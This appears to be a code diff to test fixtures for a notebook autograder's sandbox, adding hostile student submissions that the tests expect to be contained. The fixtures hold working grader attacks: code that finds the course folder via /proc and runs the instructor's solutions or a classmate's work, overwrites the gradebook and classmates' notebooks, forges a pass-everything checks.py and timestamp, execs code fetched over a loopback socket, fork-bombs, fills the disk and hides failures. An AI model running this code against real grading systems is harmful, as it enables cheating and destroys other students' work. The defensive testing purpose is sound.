@@ -305,6 +305,9 @@ _SIGMOID_NO_ONE_FAILS = _fails(
     *_S_CHECKS, "test_logistic_regression_boundary", "test_log_likelihood_coin_flip"
 )
 
+_FORWARD_NO_B1 = "def forward(self, inputs):\n    return np.matmul(np.matmul(inputs, self.W1), self.W2) + self.b2"
+_FORWARD_NO_B1_FAILS = _fails("test_forward_example", "test_forward_values", "test_train_example")
+
 BUGGY = [
     Variant(
         "blank",
@@ -507,11 +510,8 @@ BUGGY = [
     Variant(
         "forward-no-b1",
         "forward forgets the first bias",
-        {
-            "ShallowNeuralNet.forward": "def forward(self, inputs):\n"
-            "    return np.matmul(np.matmul(inputs, self.W1), self.W2) + self.b2"
-        },
-        _fails("test_forward_example", "test_forward_values", "test_train_example"),
+        {"ShallowNeuralNet.forward": _FORWARD_NO_B1},
+        _FORWARD_NO_B1_FAILS,
     ),
     Variant(
         "forward-transposed",
@@ -899,6 +899,29 @@ HOSTILE = [
     ),
     Variant("old-nbformat", "part 2 saved in the old nbformat 3", damage=_old_nbformat),
     Variant(
+        "env-tricks",
+        "a wrong s, and NBGRADER_EXECUTION cleared, NBGRADER_VALIDATING set in the kernel",
+        {
+            "s": _SIGMOID_NO_ONE["s"] + "\n\n\nimport os\n\n"
+            "os.environ['NBGRADER_EXECUTION'] = ''\nos.environ['NBGRADER_VALIDATING'] = '1'"
+        },
+        _SIGMOID_NO_ONE_FAILS,
+    ),
+    Variant(
+        "writes-into-folder",
+        "a wrong s and forward; part 1 writes a pass-everything checks.py, a new part 2 and"
+        " timestamp.txt into its folder (each notebook runs in a copy of the folder)",
+        {
+            **_SIGMOID_NO_ONE,
+            "ShallowNeuralNet.forward": _FORWARD_NO_B1,
+            "l": "def l(x):\n    return np.log(x)\n\n\n"
+            "open('checks.py', 'w').write('def __getattr__(name):\\n    return print\\n')\n"
+            "open('part2_shallow_neural_network.ipynb', 'w').write('{}')\n"
+            "open('timestamp.txt', 'w').write('2000-01-01 00:00:00')",
+        },
+        _SIGMOID_NO_ONE_FAILS | _FORWARD_NO_B1_FAILS,
+    ),
+    Variant(
         "extra-files",
         "a wrong s, extra files, and a checks.py of its own that passes everything",
         _SIGMOID_NO_ONE,
@@ -907,4 +930,129 @@ HOSTILE = [
     ),
 ]
 
-VARIANTS = {variant.name: variant for variant in CORRECT + BUGGY + HOSTILE}
+# Code that looks for the course folder the way an attacker would: three levels up from the
+# notebook (where nbgrader runs it), or the working folder of a process above the kernel.
+_FIND_COURSE = """
+def find_course():
+    import os
+
+    places = [os.path.abspath("../../..")]
+    pid = os.getppid()
+    while pid > 1:
+        try:
+            places.append(os.readlink(f"/proc/{pid}/cwd"))
+            with open(f"/proc/{pid}/stat") as stat:
+                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
+        except (OSError, ValueError):
+            break
+    for place in places:
+        if os.path.isdir(os.path.join(place, "source")):
+            return place
+    raise FileNotFoundError("no course folder in sight")
+
+
+def run_cell_defining(path, name):
+    import json
+
+    namespace = {"np": np}
+    for cell in json.load(open(path))["cells"]:
+        if f"def {name}(" in "".join(cell["source"]):
+            exec("".join(cell["source"]), namespace)
+    return namespace[name]
+"""
+
+_VANDAL = """
+
+import glob
+import os
+
+course = find_course()
+targets = ["gradebook.db", "nbgrader_config.py", "release/w1s3/part1_logistic_regression.ipynb"]
+targets += glob.glob(os.path.join(course, "submitted", "*", "w1s3", "*.ipynb"))
+targets += glob.glob(os.path.join(course, "autograded", "*", "w1s3", "*.ipynb"))
+for target in targets:
+    if "vandal" not in target:
+        try:
+            with open(os.path.join(course, target), "w") as file:
+                file.write("vandalised")
+        except OSError as error:
+            print("could not write", target, error)
+"""
+
+# An s that raises: its own checks fail, and the visible checks that run s.
+_S_BROKEN_FAILS = _fails(
+    *_S_CHECKS,
+    "test_logistic_regression_boundary",
+    "test_predict_samples_lecture",
+    "test_log_likelihood_coin_flip",
+)
+
+# Submissions that attack the grading machine; in the sandbox they gain nothing and harm
+# no one (tests/test_grading.py also checks the course files and the loopback service).
+INTRUDERS = [
+    Variant(
+        "runs-source-solutions",
+        "s runs the instructor's solution from source/ (the sandbox hides it)",
+        {
+            "s": _FIND_COURSE + "\n\ndef s(x):\n    path = find_course() + "
+            '"/source/w1s3/part1_logistic_regression.ipynb"\n'
+            '    return run_cell_defining(path, "s")(x)'
+        },
+        _S_BROKEN_FAILS,
+    ),
+    Variant(
+        "copies-classmate",
+        "s runs a classmate's s from submitted/ (the sandbox hides it)",
+        {
+            "s": _FIND_COURSE + "\n\ndef s(x):\n    import glob\n\n"
+            '    paths = glob.glob(find_course() + "/submitted/model/w1s3/part1*.ipynb")\n'
+            '    return run_cell_defining(paths[0], "s")(x)'
+        },
+        _S_BROKEN_FAILS,
+    ),
+    Variant(
+        "vandal",
+        "correct, and overwrites the gradebook, the config, the release and every classmate's"
+        " submitted and autograded notebooks it can find",
+        {"s": _FIND_COURSE + "\n\ndef s(x):\n    return 1 / (1 + np.exp(-x))" + _VANDAL},
+    ),
+    Variant(
+        "loopback-socket",
+        "s asks a service on loopback for its code (port in port.txt; no network in the sandbox)",
+        {
+            "s": "def s(x):\n    import socket\n\n    port = int(open('port.txt').read())\n"
+            "    with socket.create_connection(('127.0.0.1', port), timeout=2) as conn:\n"
+            "        code = conn.recv(1000).decode()\n"
+            "    namespace = {'np': np}\n    exec(code, namespace)\n"
+            "    return namespace['s'](x)"
+        },
+        _S_BROKEN_FAILS,
+        # the test's service writes port.txt into this student's folder
+    ),
+    Variant(
+        "fork-loop",
+        "forks processes in a loop after defining s (stopped by the process limit)",
+        {
+            "s": "def s(x):\n    return 1 / (1 + np.exp(-x))\n\n\nimport os\nimport time\n\n"
+            "for i in range(5000):\n    if os.fork() == 0:\n        time.sleep(1)\n"
+            "        os._exit(0)"
+        },
+    ),
+    Variant(
+        "disk-fill",
+        "writes a 4 GiB file after defining s (stopped by the file and scratch limits)",
+        {
+            "s": "def s(x):\n    return 1 / (1 + np.exp(-x))\n\n\n"
+            "with open('filler.bin', 'wb') as filler:\n    for i in range(4096):\n"
+            "        filler.write(bytes(2**20))"
+        },
+    ),
+    Variant(
+        "tamper-excepthook",
+        "a wrong s, and sys.excepthook replaced to hide failures",
+        {"s": _SIGMOID_NO_ONE["s"] + "\n\n\nimport sys\n\nsys.excepthook = lambda *args: None"},
+        _SIGMOID_NO_ONE_FAILS,
+    ),
+]
+
+VARIANTS = {variant.name: variant for variant in CORRECT + BUGGY + HOSTILE + INTRUDERS}
